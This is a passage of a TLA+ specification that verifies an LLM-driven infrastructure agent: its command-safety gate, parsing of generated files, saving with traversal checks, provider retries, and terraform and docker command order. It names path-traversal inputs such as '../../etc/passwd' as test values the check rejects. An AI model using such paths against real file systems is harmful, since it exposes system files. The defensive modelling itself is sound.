(* Properties of SpecRun                                                   *)
(***************************************************************************)

\* C4: every process spawn is for a command string that the agent's
\* check_command_safety classified as safe immediately before the spawn.
C4_SpawnsGated ==
    \A i \in DOMAIN spawns :
       /\ spawns[i].checked # None
       /\ spawns[i].checked[1].command = spawns[i].command
       /\ spawns[i].checked[1].safe

\* the gate calls that rejected their command
Rejections == {i \in DOMAIN gateLog : ~gateLog[i].safe}

\* no process was spawned for a rejected command, and the call that has
\* just returned after a rejection returned a failure with the reason
RejectedNotRun ==
    /\ \A i \in Rejections : \A j \in DOMAIN spawns :
          spawns[j].command # gateLog[i].command
    /\ (gateLog # <<>> /\ ~gateLog[Len(gateLog)].safe) =>
          /\ result # None
          /\ ~result[1].success
          /\ result[1].command = gateLog[Len(gateLog)].command
          /\ OccursIn(gateLog[Len(gateLog)].message, result[1].output)

\* the same command string has gone to the gate again after a rejection
Resubmitted(i, j) ==
    /\ i \in Rejections
    /\ j \in DOMAIN gateLog
    /\ i < j
    /\ gateLog[j].command = gateLog[i].command

NamedTwice(name) ==
    \E m, n \in DOMAIN files :
       m # n /\ files[m].filename = name /\ files[n].filename = name

\* a "kubectl apply -f" command for a file name the response gave twice
ApplyOfRepeatedName(command) ==
    /\ agent = "k8s"
    /\ \E name \in {files[m].filename : m \in DOMAIN files} :
          /\ NamedTwice(name)
          /\ OccursIn("kubectl apply -f ", command)
          /\ OccursIn("/" \o name \o " --namespace ", command)

Affirmative(answer) == answer \in {"yes", "y", "Yes", "Y", "YES"}

\* the spawn runs an external tool on the artifacts the run has saved: in
\* their directory, or with that directory in the command
OnArtifacts(s) ==
    /\ saved_files # <<>>
    /\ \/ s.cwd = <<base_dir>>
       \/ OccursIn(base_dir, s.command)

\* C6: in every run of the ansible, docker, k8s and terraform agents, no
\* external tool is invoked on the generated artifacts unless the operator
\* has answered a confirmation prompt with yes or y before.
C6_ConfirmedBeforeTool ==
    agent \in {"ansible", "docker", "k8s", "terraform"} =>
       \A i \in DOMAIN spawns :
          OnArtifacts(spawns[i]) =>
             \E j \in DOMAIN spawns[i].asked : Affirmative(spawns[i].asked[j].answer)

(***************************************************************************)
(* The caller of extract_files                                             *)
(***************************************************************************)

\* the artifact list the caller of extract_files goes on with: CodeAgent.run
\* replaces an empty list by one artifact holding the response; the generate_
\* functions of the tool agents and InfraAgent.run take the list as it is
run_files(a, text, found) ==
    IF a = "code" /\ found = <<>>
    THEN <<[filename |-> "generated_code.txt", content |-> text]>>
    ELSE found

\* no line of the response is a marker or a fence
NoMarkerNoFence(ls) == \A i \in DOMAIN ls : ~MarkerText(ls[i]) /\ ~FenceText(ls[i])

\* C11: for a response with no marker and no fence extract_files returns
\* zero artifacts and its caller goes on with exactly one artifact that
\* holds the whole raw response.
C11_RawFallback ==
    (pc = "extracted" /\ NoMarkerNoFence(lines)) =>
        /\ files = <<>>
        /\ Len(run_files(agent, response, files)) = 1
        /\ run_files(agent, response, files)[1].content = response

(***************************************************************************)
(* Batches of save_files                                                   *)
(***************************************************************************)

\* the names of the batches that escape the base directory, and those the
\* traversal check of the tool agents turns down as well
EscapingNames == {"../../etc/passwd", "/etc/passwd"}
TurnedDownNames == EscapingNames \cup {"a..b"}

\* the artifact i of the batch was written with its content
Written(i) ==
    \E j \in DOMAIN writes : writes[j].index = i /\ writes[j].content = files[i].content

\* the loop of save_files was left by an exception at artifact i
RaisedAt(i) == pc = "save_raised" /\ i = k - 1

\* a batch of a tool agent that holds a rejected artifact
HoldsRejected ==
    /\ agent \in {"ansible", "docker", "k8s", "terraform"}
    /\ \E r \in DOMAIN files : files[r].filename \in EscapingNames

Skipped(i) == i < k /\ ~RaisedAt(i) /\ \A j \in DOMAIN writes : writes[j].index # i

\* C13: once save_files has returned, the value it hands to its caller has
\* one entry for each artifact of the batch, an absolute path for each
\* artifact written and a skip for each artifact rejected, and the list of
\* files the agent reports names no artifact that was skipped.
C13_OutcomesReported ==
    pc = "saved" =>
        /\ Len(saved_files) = Len(files)
        /\ \A j \in DOMAIN saved_files : SubSeq(saved_files[j], 1, 1) = "/"
        /\ \A i \in DOMAIN Names : ~Skipped(i)

(***************************************************************************)
(* Specification SpecFiles: one call of extract_files on a response, or    *)
(* one call of save_files on a batch                                       *)
(***************************************************************************)

InitFiles == InitExtract \/ InitSave

NextFiles == NextExtract \/ NextSave

SpecFiles == InitFiles /\ [][NextFiles]_vars

\* the bodies of the well-formed blocks from line i on, in order
RECURSIVE BodiesFrom(_, _)
BodiesFrom(ls, i) ==
    LET m == SkipBlank(ls, i)
        o == SkipBlank(ls, m + 1)
        c == NextDelimiter(ls, o + 1)
    IN  IF m > Len(ls) \/ o > Len(ls) \/ c > Len(ls) THEN <<>>
        ELSE <<Join(SubSeq(ls, o + 1, c - 1), "\n")>> \o BodiesFrom(ls, c + 1)

\* the last artifact of the batch that has the name of artifact i
LastNamed(i) ==
    CHOOSE j \in DOMAIN files :
        /\ files[j].filename = files[i].filename
        /\ \A h \in DOMAIN files : files[h].filename = files[i].filename => h <= j

\* C14: when the well-formed blocks of a response name a path twice,
\* extract_files returns one entry per block, in the order of the text, each
\* with the body of its own block and no more (white space at its ends
\* apart); and once save_files has returned, the
\* file at a path that several artifacts of the batch name holds exactly the
\* content of the last of them.
C14_LastWriteWins ==
    /\ pc = "extracted" =>
          \A w \in {WellFormedFrom(lines, 1)} :
              (w.ok /\ ~Distinct(w.paths)) =>
                  /\ Len(files) = Len(w.paths)
                  /\ \A i \in DOMAIN files :
                        /\ files[i].filename = w.paths[i]
                        /\ Strip(files[i].content) = Strip(BodiesFrom(lines, 1)[i])
    /\ pc = "saved" =>
          \A i \in DOMAIN files :
              (LastNamed(i) # i /\ files[i].filename \notin TurnedDownNames) =>
                  /\ UnderBase(files[i].filename) \in DOMAIN fs.disk
                  /\ fs.disk[UnderBase(files[i].filename)] = files[LastNamed(i)].content

\* two artifacts of one name and different contents were saved
C14_Witness ==
    /\ pc = "saved"
    /\ Len(files) >= 2
    /\ files[1].filename = files[2].filename
    /\ files[1].content # files[2].content
    /\ LastNamed(1) = 2
    /\ Len(writes) = 2
    /\ fs.disk[UnderBase(files[1].filename)] = files[2].content

(***************************************************************************)
(* Provider dispatch: __init__, the choice of a backend in the generate_   *)
(* functions, and the provider calls                                       *)
(***************************************************************************)

\* A bug the retry loop could have: one attempt more.
one_more_retry == 3 + 1

max_retries == 3

\* A bug the provider calls could have: a first delay of 4 seconds.
doubled_delay == 2 * 2

retry_delay == 2

\* the scripts that choose a backend: the agents and infra_dsl.py
Scripts == Agents \cup {"infra_dsl"}

\* os.environ: the variables __init__ reads, None when a variable is not set
Environs ==
    [OPENAI_API_KEY : {None, Some(""), Some("k1")},
     ANTHROPIC_API_KEY : {None, Some(""), Some("k2")},
     DEEPSEEK_API_KEY : {None, Some(""), Some("k3")},
     NATIVE_OS_DEFAULT_PROVIDER : {None, Some("Claude"), Some("deepseek"), Some("openai")},
     NATIVE_OS_LOCAL_MODEL : {None, Some("1")}]

\* os.getenv(name, default)
getenv(value, default) == IF value = None THEN default ELSE value[1]

\* __init__: the fields read from the environment; the code agent reads
\* OPENAI_API_KEY and NATIVE_OS_LOCAL_MODEL only
init_config(script, environ) ==
    IF script = "code"
    THEN [environ |-> environ,
          openai_api_key |-> environ.OPENAI_API_KEY,
          anthropic_api_key |-> None,
          deepseek_api_key |-> None,
          default_provider |-> "openai",
          use_local_model |-> \/ getenv(environ.NATIVE_OS_LOCAL_MODEL, "0") = "1"
                              \/ environ.OPENAI_API_KEY = None]
    ELSE [environ |-> environ,
          openai_api_key |-> environ.OPENAI_API_KEY,
          anthropic_api_key |-> environ.ANTHROPIC_API_KEY,
          deepseek_api_key |-> environ.DEEPSEEK_API_KEY,
          default_provider |-> Lower(getenv(environ.NATIVE_OS_DEFAULT_PROVIDER, "openai")),
          use_local_model |-> \/ getenv(environ.NATIVE_OS_LOCAL_MODEL, "0") = "1"
                              \/ /\ environ.OPENAI_API_KEY = None
                                 /\ environ.ANTHROPIC_API_KEY = None
                                 /\ environ.DEEPSEEK_API_KEY = None]

\* the if chain of the generate_ functions: the backend that is called,
\* "none" when the chain ends in its last else; infra_dsl.py has no DeepSeek
\* branch and the code agent knows OpenAI only
select_backend(script, c) ==
    IF c.use_local_model THEN "ollama"
    ELSE IF script = "code" THEN "openai"
    ELSE IF c.default_provider = "openai" /\ Truthy(c.openai_api_key) THEN "openai"
    ELSE IF c.default_provider = "claude" /\ Truthy(c.anthropic_api_key) THEN "claude"
    ELSE IF /\ script # "infra_dsl"
            /\ c.default_provider = "deepseek" /\ Truthy(c.deepseek_api_key)
    THEN "deepseek"
    ELSE IF Truthy(c.openai_api_key) THEN "openai"
    ELSE IF Truthy(c.anthropic_api_key) THEN "claude"
    ELSE IF script # "infra_dsl" /\ Truthy(c.deepseek_api_key) THEN "deepseek"
    ELSE "none"

\* what the last else of the chain returns: the agents an error string,
\* infra_dsl.py None
no_provider(script) == IF script = "infra_dsl" THEN None ELSE Some(NoProvider)

\* what requests.post and the reading of its JSON body can do: raise, or
\* answer with a status code and a body that has the expected fields or not
HttpAnswers ==
    {[raised |-> TRUE, status_code |-> 0, body |-> FALSE],
     [raised |-> FALSE, status_code |-> 200, body |-> TRUE],
     [raised |-> FALSE, status_code |-> 200, body |-> FALSE],
     [raised |-> FALSE, status_code |-> 429, body |-> FALSE],
     [raised |-> FALSE, status_code |-> 500, body |-> FALSE]}

\* the name of the provider in the messages
ProviderName(p) ==
    CASE p = "openai" -> "OpenAI" [] p = "claude" -> "Claude"
      [] p = "deepseek" -> "DeepSeek" [] OTHER -> "local model"

\* the text a provider generates and str(e) of an exception
Generated == "## file: a.txt\nhello"
Message == "Connection refused"

\* _get_ollama_response, and the provider calls of infra_dsl.py: one request
call_once(script, p, answer) ==
    LET failed == answer.raised \/ (answer.status_code = 200 /\ ~answer.body /\ p # "ollama")
    IN  IF script = "infra_dsl"
        THEN IF failed \/ answer.status_code # 200 THEN None
             ELSE IF answer.body THEN Some(Generated) ELSE Some("")
        ELSE IF answer.raised
        THEN Some("Error: Could not connect to Ollama. Is it running? Error: " \o Message)
        ELSE IF answer.status_code = 200
        THEN IF answer.body THEN Some(Generated) ELSE Some("")
        ELSE Some("Error: Failed to get response from local model. Status code: "
                  \o ToString(answer.status_code))

\* A bug the retry loop could have: every answer but 200 is tried again.
call_attempt_retries_all(script, p, att, answer) ==
    IF ~answer.raised /\ answer.status_code = 200 /\ answer.body
    THEN [done |-> TRUE, reply |-> Some(Generated), sleep |-> 0]
    ELSE IF att < max_retries - 1
    THEN [done |-> FALSE, reply |-> None, sleep |-> retry_delay * (2 ^ att)]
    ELSE [done |-> TRUE, reply |-> Some("Error: " \o Message), sleep |-> 0]

\* one iteration of "for attempt in range(max_retries)" of _get_openai_response,
\* _get_claude_response and _get_deepseek_response of the agents: the call
\* returns (done) or sleeps and goes on with the next attempt
call_attempt(script, p, att, answer) ==
    IF answer.raised \/ (answer.status_code = 200 /\ ~answer.body)
    THEN [done |-> TRUE, reply |-> Some("Error: " \o Message), sleep |-> 0]
    ELSE IF answer.status_code = 200
    THEN [done |-> TRUE, reply |-> Some(Generated), sleep |-> 0]
    ELSE IF answer.status_code = 429
    THEN IF att < max_retries - 1
         THEN [done |-> FALSE, reply |-> None, sleep |-> retry_delay * (2 ^ att)]
         ELSE [done |-> TRUE,
               reply |-> Some("Error: " \o ProviderName(p)
                              \o " rate limit exceeded. Please try again later."),
               sleep |-> 0]
    ELSE [done |-> TRUE,
          reply |-> Some("Error: Failed to get response from " \o ProviderName(p)
                         \o ". Status code: " \o ToString(answer.status_code)
                         \o (IF p = "openai" /\ script # "code"
                             THEN ". Details: " \o "{}" ELSE "")),
          sleep |-> 0]

\* the generate_ function (parse_request of infra_dsl.py) chooses the backend
Dispatch ==
    /\ pc = "dispatch"
    /\ \E b \in {select_backend(agent, config)} :
          IF b = "none"
          THEN /\ pc' = "returned"
               /\ reply' = no_provider(agent)
               /\ UNCHANGED provider
          ELSE /\ pc' = "call"
               /\ provider' = b
               /\ UNCHANGED reply
    /\ attempt' = 0
    /\ UNCHANGED <<agent, config, posts, evolverVars, execVars, extractVars, saveVars,
                   runVars>>

\* one requests.post of the provider call and what the call does with the
\* answer; after the loop the call returns the maximum retries message
Post ==
    /\ pc = "call"
    /\ IF provider = "ollama" \/ agent = "infra_dsl"
       THEN \E answer \in HttpAnswers :
               /\ posts' = Append(posts, [provider |-> provider, attempt |-> attempt,
                                          answer |-> answer, sleep |-> 0])
               /\ reply' = call_once(agent, provider, answer)
               /\ pc' = "returned"
               /\ UNCHANGED attempt
       ELSE IF attempt >= max_retries
       THEN /\ reply' = Some("Error: Maximum retries exceeded when contacting "
                             \o ProviderName(provider) \o " API.")
            /\ pc' = "returned"
            /\ UNCHANGED <<attempt, posts>>
       ELSE \E answer \in HttpAnswers :
               \E x \in {call_attempt(agent, provider, attempt, answer)} :
                  /\ posts' = Append(posts, [provider |-> provider, attempt |-> attempt,
                                             answer |-> answer, sleep |-> x.sleep])
                  /\ reply' = x.reply
                  /\ pc' = IF x.done THEN "returned" ELSE "call"
                  /\ attempt' = IF x.done THEN attempt ELSE attempt + 1
    /\ UNCHANGED <<agent, config, provider, evolverVars, execVars, extractVars, saveVars,
                   runVars>>

(***************************************************************************)
(* Specification SpecProvider: one generation request of a script, for     *)
(* every setting of the environment variables and every answer             *)
(***************************************************************************)

InitProvider ==
    /\ agent \in Scripts
    /\ pc = "dispatch"
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ ExtractIdle
    /\ SaveIdle
    /\ prompts = <<>>
    /\ env = EnvStart
    /\ config \in {init_config(agent, e) : e \in Environs}
    /\ provider = ""
    /\ attempt = 0
    /\ posts = <<>>
    /\ reply = None
    /\ EvolverIdle

NextProvider == Dispatch \/ Post

SpecProvider == InitProvider /\ [][NextProvider]_vars

\* every requests.post is answered or raises: the provider call goes on
SpecProviderLive == SpecProvider /\ WF_vars(NextProvider)

\* the call went to a remote provider
RemoteCall == provider \in {"openai", "claude", "deepseek"}

\* every request of the call was answered with status 429
AllRateLimited ==
    /\ posts # <<>>
    /\ \A i \in DOMAIN posts :
          ~posts[i].answer.raised /\ posts[i].answer.status_code = 429

\* the value is a string that begins with "Error:"
ErrorString(r) == r # None /\ Len(r[1]) >= 6 /\ SubSeq(r[1], 1, 6) = "Error:"

OtherStatus(i) ==
    /\ posts[i].provider \in {"openai", "claude", "deepseek"}
    /\ ~posts[i].answer.raised
    /\ posts[i].answer.status_code \notin {200, 429}

\* only an answer 429 is followed by another request
OnlyRateLimitRetried ==
    \A i \in DOMAIN posts :
        i < Len(posts) => ~posts[i].answer.raised /\ posts[i].answer.status_code = 429

C17_ConnectionRetried ==
    (/\ pc = "returned"
     /\ RemoteCall
     /\ posts # <<>>
     /\ \A i \in DOMAIN posts : posts[i].answer.raised) =>
        /\ Len(posts) = 3
        /\ \A i \in 1..2 : posts[i].sleep > 0
        /\ ErrorString(reply)

\* the providers whose credential the environment holds, a set variable with
\* an empty value holding none
Credentials ==
    {p \in {"openai", "claude", "deepseek"} :
        LET v == config.environ[CASE p = "openai" -> "OPENAI_API_KEY"
                                  [] p = "claude" -> "ANTHROPIC_API_KEY"
                                  [] OTHER -> "DEEPSEEK_API_KEY"]
        IN  v # None /\ v[1] # ""}

LocalForced == config.environ.NATIVE_OS_LOCAL_MODEL = Some("1")

\* the provider the environment prefers, in lower case
Preferred ==
    IF config.environ.NATIVE_OS_DEFAULT_PROVIDER = None THEN "openai"
    ELSE Lower(config.environ.NATIVE_OS_DEFAULT_PROVIDER[1])

\* the first provider with a credential in the order OpenAI, Claude, DeepSeek
FirstCredential ==
    IF "openai" \in Credentials THEN "openai"
    ELSE IF "claude" \in Credentials THEN "claude" ELSE "deepseek"

\* the backend the script went to, "none" when it went to none
Chosen == IF pc = "returned" /\ posts = <<>> THEN "none" ELSE provider

\* no variable of the environment is set to the empty string
NoEmptyValue ==
    \A n \in DOMAIN config.environ : config.environ[n] # Some("")

\* C18: once the backend is chosen it is the local model when local mode is
\* forced or no remote credential is set; otherwise the preferred provider
\* when its credential is present; otherwise the first provider with a
\* credential in the order OpenAI, Claude, DeepSeek (scripts that read the
\* three credentials, environments without empty values).
C18_BackendSelection ==
    (config # None /\ pc # "dispatch" /\ NoEmptyValue /\ agent # "code") =>
        Chosen = IF LocalForced \/ Credentials = {} THEN "ollama"
                 ELSE IF Preferred \in Credentials THEN Preferred
                 ELSE FirstCredential

(***************************************************************************)
(* Specification SpecAgain: an agent calls extract_files, and calls it     *)
(* again, on the same response or on another one                           *)
(***************************************************************************)

\* the number of calls of extract_files one agent makes
MaxCalls == 3

\* the response of a call that comes between two calls on the same text
OtherResponse == "## file: z.txt\n'''\nzz\n'''"

\* the responses of the later calls: the first response again, and as the
\* second call the other response
AgainResponses ==
    {extracts[1].response} \cup (IF Len(extracts) = 1 THEN {OtherResponse} ELSE {})

\* a second call whose list of artifacts is the list the call before left
ExtractAgainKeepsFiles ==
    /\ pc = "extracted"
    /\ Len(extracts) < MaxCalls
    /\ \E text \in AgainResponses :
          /\ response' = text
          /\ lines' = Split(text, "\n")
    /\ idx' = 1
    /\ scan' = ScanStart
    /\ pc' = "scan"
    /\ UNCHANGED <<providerVars, evolverVars, agent, files, extracts, execVars, saveVars, runVars>>

\* the same agent object calls extract_files again: the statements before the
\* for loop set every variable of the scan anew
ExtractAgain ==
    /\ pc = "extracted"
    /\ Len(extracts) < MaxCalls
    /\ \E text \in AgainResponses :
          /\ response' = text
          /\ lines' = Split(text, "\n")
    /\ idx' = 1
    /\ scan' = ScanStart
    /\ files' = <<>>
    /\ pc' = "scan"
    /\ UNCHANGED <<providerVars, evolverVars, agent, extracts, execVars, saveVars, runVars>>

\* the first call is made on a response of free lines or on a fixed response
InitAgain ==
    /\ agent \in Agents
    /\ pc = "scan"
    /\ \E text \in FreeResponses \cup FixedResponses : ExtractBegin(text)
    /\ gateLog = <<>>
    /\ spawns = <<>>
    /\ result = None
    /\ SaveIdle
    /\ RunIdle

NextAgain == ExtractLine \/ ExtractEnd \/ ExtractAgain

SpecAgain == InitAgain /\ [][NextAgain]_vars

NoDangerous(a, command) ==
    \A d \in Range(dangerous_patterns(a)) : ~OccursIn(d, command)

\* the command has a first token and the agent's allow-list holds it
FirstTokenAllowed(a, command) ==
    LET toks == SplitWhitespace(command)
    IN  Len(toks) > 0 /\ toks[1] \in Range(allowed_commands(a))

\* C20: in the ansible, docker, k8s and terraform agents a command is ALLOWED
\* exactly when it contains no dangerous substring and its first token is in
\* the allow-list, and an ALLOWED command is handed to subprocess.run;
\* "docker build -t x ." is ALLOWED by the docker agent.
C20_AllowedExactly ==
    (pc = "gate_done" /\ agent \in ToolAgents) =>
        /\ LastGate.safe <=> (/\ NoDangerous(agent, LastGate.command)
                              /\ FirstTokenAllowed(agent, LastGate.command))
        /\ LastGate.safe => /\ LastGate.message = "Command appears safe"
                            /\ Len(spawns) = 1
                            /\ spawns[1].command = LastGate.command
        /\ (agent = "docker" /\ LastGate.command = "docker build -t x .")
              => LastGate.safe

\* the docker agent has allowed "docker build -t x ." and run it
C20_Witness ==
    /\ pc = "gate_done"
    /\ agent = "docker"
    /\ LastGate.command = "docker build -t x ."
    /\ LastGate.safe
    /\ Len(spawns) = 1

(***************************************************************************)
(* Marker lines                                                            *)
(***************************************************************************)

\* the line begins with "## file:" written in any letter case
AnyCaseMarker(l) == Len(l) >= 8 /\ Lower(SubSeq(l, 1, 8)) = "## file:"

\* the line the for loop of extract_files handled last
LastLine == lines[idx - 1]

\* C21: after the scan has handled a line that begins with "## file:" in any
\* letter case, the path of that line is the current path.
C21_MarkerAnyCase ==
    (idx > 1 /\ AnyCaseMarker(LastLine)) =>
        scan.current_file = Some(PathText(LastLine))

\* C22: a step of the scan that handles a marker line while a fence is open
\* appends the artifact in progress, if a path is set, to the list, makes
\* the marker's path the current path with no content, and leaves the scan
\* outside a fence.
C22_MarkerInFence ==
    [][(/\ pc = "scan" /\ pc' = "scan"
        /\ idx' = idx + 1
        /\ scan.in_code_block
        /\ MarkerText(lines[idx]))
       => /\ scan'.current_file = Some(PathText(lines[idx]))
          /\ scan'.current_content = <<>>
          /\ ~scan'.in_code_block
          /\ files' = IF scan.current_file \notin {None, Some("")}
                      THEN Append(files,
                                  [filename |-> scan.current_file[1],
                                   content |-> Join(scan.current_content, "\n")])
                      ELSE files]_vars

\* the docker agent has met the marker of b.txt inside the fence of a.txt
C22_Witness ==
    /\ agent = "docker"
    /\ response = "## file: a.txt\n'''\nhello\n## file: b.txt\nworld\n'''"
    /\ idx = 5
    /\ scan.current_file = Some("b.txt")
    /\ ~scan.in_code_block
    /\ files = <<[filename |-> "a.txt", content |-> "hello"]>>

(***************************************************************************)
(* Lines outside a file context                                            *)
(***************************************************************************)

\* the lines of the content of an artifact, none for an empty content
ContentLines(f) == IF f.content = "" THEN {} ELSE Range(Split(f.content, "\n"))

\* the line at index i stands before the first marker and its text stands
\* nowhere after it
OnlyBeforeFirstMarker(ls, i) ==
    /\ i < NextMarker(ls, 1)
    /\ \A j \in DOMAIN ls : j >= NextMarker(ls, 1) => ls[j] # ls[i]

\* C23: in the ansible, docker, k8s and terraform agents the accumulated
\* content is empty whenever no path, or the empty path, is set; as long as
\* the scan has handled no marker nothing is accumulated and nothing is
\* emitted; and a line that stands only before the first marker is in the
\* content of no artifact.
C23_NoContentWithoutPath ==
    (agent \in ToolAgents /\ idx >= 1) =>
        /\ scan.current_file \in {None, Some("")} => scan.current_content = <<>>
        /\ idx - 1 < NextMarker(lines, 1) =>
              /\ scan.current_file = None
              /\ scan.current_content = <<>>
              /\ files = <<>>
        /\ \A i \in DOMAIN lines : \A n \in DOMAIN files :
              (OnlyBeforeFirstMarker(lines, i) /\ lines[i] # "")
                 => lines[i] \notin ContentLines(files[n])

\* a tool agent has dropped a plain line and a fenced line that stand before
\* the first marker
C23_Witness ==
    /\ pc = "extracted"
    /\ agent = "k8s"
    /\ response = "intro\n'''\ncode\n'''\n## file: a.txt\nhello"
    /\ files = <<[filename |-> "a.txt", content |-> "hello"]>>

(***************************************************************************)
(* Markers without a path                                                  *)
(***************************************************************************)

\* the line is a marker with nothing but white space after the colon
EmptyMarker(l) == MarkerText(l) /\ PathText(l) = ""

\* s begins with the elements of t
Extends(s, t) == Len(s) >= Len(t) /\ SubSeq(s, 1, Len(t)) = t

\* C24: every step of extract_files handles the next line or, after the last
\* line, returns, so a call ends after one step per line and one more; no
\* artifact of the list has an empty path, and an artifact of the list is
\* never changed; the step that handles a marker without a path emits the
\* artifact in progress with the content accumulated before the marker and
\* emits no artifact for the marker.
C24_EmptyPathSkipped ==
    [][/\ pc = "scan"
       /\ \/ pc' = "scan" /\ idx <= Len(lines) /\ idx' = idx + 1
          \/ pc' = "extracted" /\ idx = Len(lines) + 1
       /\ Extends(files', files)
       /\ \A n \in DOMAIN files' : files'[n].filename # ""
       /\ (pc' = "scan" /\ EmptyMarker(lines[idx]))
             => /\ files' = IF scan.current_file \in {None, Some("")} THEN files
                            ELSE Append(files,
                                        [filename |-> scan.current_file[1],
                                         content |-> Join(scan.current_content, "\n")])
                /\ scan'.current_file = Some("")
                /\ scan'.current_content = <<>>]_vars

\* a marker without a path stood between the markers of a.txt and of b.txt
C24_Witness ==
    /\ pc = "extracted"
    /\ agent = "terraform"
    /\ response = "## file: a.txt\nhello\n## file:\nworld\n## file: b.txt\nbye"
    /\ files = << [filename |-> "a.txt", content |-> "hello"],
                  [filename |-> "b.txt", content |-> "bye"] >>

(***************************************************************************)
(* The artifact in progress when a marker or the end of the input closes it *)
(***************************************************************************)

\* a path is set
PathSet(st) == st.current_file \notin {None, Some("")}

\* the artifact in progress
InProgress(st) ==
    [filename |-> st.current_file[1], content |-> Join(st.current_content, "\n")]

\* the rule for the end of the input: a set path, and in the code and infra
\* agents at least one line of content
EmittedAtEnd(a, st) == PathSet(st) /\ (a \in ToolAgents \/ st.current_content # <<>>)

\* the list extract_files returns when the scan ends with the list found and
\* the artifact in progress is emitted or not; the infra agent returns the
\* response as README.md in place of an empty list
ListAtEnd(a, found, st, emitted, text) ==
    LET all == IF emitted THEN Append(found, InProgress(st)) ELSE found
    IN  IF a = "infra" /\ all = <<>>
        THEN <<[filename |-> "README.md", content |-> text]>>
        ELSE all

\* C25 as stated: at the end of the input the artifact in progress is
\* emitted when a path is set, in the code and infra agents only when it has
\* content; a marker closes the artifact in progress by the same rule.
C25_SameAtMarker ==
    [][pc = "scan" =>
          /\ pc' = "extracted" =>
                files' = ListAtEnd(agent, files, scan, EmittedAtEnd(agent, scan), response)
          /\ (pc' = "scan" /\ MarkerText(lines[idx])) =>
                files' = IF EmittedAtEnd(agent, scan)
                         THEN Append(files, InProgress(scan)) ELSE files]_vars

\* C25: at the end of the input the artifact in progress is emitted when a
\* path is set, in the code and infra agents only when it has content; a
\* marker closes the artifact in progress, in every agent, whenever a path
\* is set, with or without content.
C25_FinalArtifact ==
    [][pc = "scan" =>
          /\ pc' = "extracted" =>
                files' = ListAtEnd(agent, files, scan, EmittedAtEnd(agent, scan), response)
          /\ (pc' = "scan" /\ MarkerText(lines[idx])) =>
                files' = IF PathSet(scan)
                         THEN Append(files, InProgress(scan)) ELSE files]_vars

\* the input ended right after the marker of b.txt: the ansible agent has
\* emitted a.txt and b.txt without content
C25_Witness ==
    /\ pc = "extracted"
    /\ agent = "ansible"
    /\ response = "## file: a.txt\n## File: b.txt"
    /\ files = << [filename |-> "a.txt", content |-> ""],
                  [filename |-> "b.txt", content |-> ""] >>

(***************************************************************************)
(* The delays of a provider call                                           *)
(***************************************************************************)

\* the seconds the call has slept after its first n requests
RECURSIVE Slept(_)
Slept(n) == IF n = 0 THEN 0 ELSE Slept(n - 1) + posts[n].sleep

\* C26: a provider call sleeps only between two requests: every request but
\* the last is followed by a delay of 2 * 2^(k-1) seconds, k the number of
\* the retry that follows (2 s before the second request, 4 s before the
\* third), nothing is slept after the request the call returns on, and the
\* delays of a call add up to at most 6 s.
C26_BackoffDelays ==
    /\ \A i \in DOMAIN posts :
          /\ (i < Len(posts) \/ pc = "call") => posts[i].sleep = 2 * (2 ^ (i - 1))
          /\ (i = Len(posts) /\ pc = "returned") => posts[i].sleep = 0
          /\ posts[i].sleep \in {0, 2 * (2 ^ (i - 1))}
    /\ Len(posts) >= 2 => posts[1].sleep = 2
    /\ Len(posts) >= 3 => posts[2].sleep = 4
    /\ Slept(Len(posts)) <= 6

\* a call has slept 2 s and 4 s and was answered on its third request
C26_Witness ==
    /\ pc = "returned"
    /\ agent = "infra"
    /\ provider = "openai"
    /\ Len(posts) = 3
    /\ posts[1].sleep = 2 /\ posts[2].sleep = 4 /\ posts[3].sleep = 0
    /\ posts[3].answer.status_code = 200
    /\ Slept(3) = 6

(***************************************************************************)
(* A run whose provider call returned an error string                      *)
(***************************************************************************)

\* the provider call of the run returned a string that begins with "Error:"
ErrorResponse == StartsWith(response, "Error:")

\* C27: in a run of a tool agent whose provider call returned an error
\* string no artifact is taken from the error text, no file is written, and
\* the ansible and terraform runs, which start no tool before generation,
\* start none at all.
C27_FailedGeneration ==
    (ErrorResponse /\ agent \in ToolAgents) =>
        /\ files = <<>>
        /\ writes = <<>>
        /\ agent \in {"ansible", "terraform"} => spawns = <<>>

(***************************************************************************)
(* The order of the commands of TerraformAgent.run                         *)
(***************************************************************************)

\* the commands of the spawns so far, in order
SpawnedCommands == [i \in DOMAIN spawns |-> spawns[i].command]

\* the call of execute_command before this step ran the command with success
Succeeded(command) ==
    result # None /\ result[1].command = command /\ result[1].success

\* the last question put to the operator was answered yes
Confirmed ==
    prompts # <<>> /\ Lower(prompts[Len(prompts)].answer) \in {"yes", "y"}

\* C28: in a run of the terraform agent the commands spawned are, in order,
\* terraform init, terraform plan, terraform apply -auto-approve, or the
\* first of them; the step that spawns plan follows an init that succeeded,
\* the step that spawns apply follows a plan that succeeded and an answer
\* yes of the operator; after a call of execute_command that failed, and
\* after the end of the run, nothing is spawned.
C28_TerraformOrder ==
    [][agent = "terraform" =>
          /\ \E n \in 0..3 :
                SpawnedCommands' =
                    SubSeq(<<"terraform init", "terraform plan",
                             "terraform apply -auto-approve">>, 1, n)
          /\ (Len(spawns') > Len(spawns) /\ Len(spawns) = 1) =>
                Succeeded("terraform init")
          /\ (Len(spawns') > Len(spawns) /\ Len(spawns) = 2) =>
                Succeeded("terraform plan") /\ Confirmed
          /\ (result # None /\ ~result[1].success) => spawns' = spawns
          /\ (result' # result /\ ~result'[1].success) => pc' = "done"
          /\ pc = "done" => spawns' = spawns]_vars

\* init, plan and apply have run in this order
C28_Witness ==
    /\ agent = "terraform"
    /\ pc = "done"
    /\ Len(spawns) = 3
    /\ spawns[1].command = "terraform init"
    /\ spawns[2].command = "terraform plan"
    /\ spawns[3].command = "terraform apply -auto-approve"
    /\ result[1].success

(***************************************************************************)
(* The push of DockerAgent.run                                             *)
(***************************************************************************)

\* the command is a registry login built by run
IsLogin(command) == Contains(command, "| docker login ")

\* C29: every registry login command that the run of the docker agent hands
\* to execute_command is accepted by the gate and spawned, so that the run
\* can go on to tag and push the image.
C29_LoginAccepted ==
    agent = "docker" =>
        \A i \in DOMAIN gateLog :
            IsLogin(gateLog[i].command) =>
                /\ gateLog[i].safe
                /\ \E j \in DOMAIN spawns : spawns[j].command = gateLog[i].command

\* ------------------------------------------------------------------
\* Evolver.apply_optimization (src/evolver/self_optimize.py)
\* ------------------------------------------------------------------

\* the longest list of suggested changes explored
MaxChanges == 2

\* _find_project_root: the directory above the evolver directory
project_root == Cwd

\* __init__: self.backup_dir
backup_dir == path_join(path_join(project_root, "evolver"), "backups")

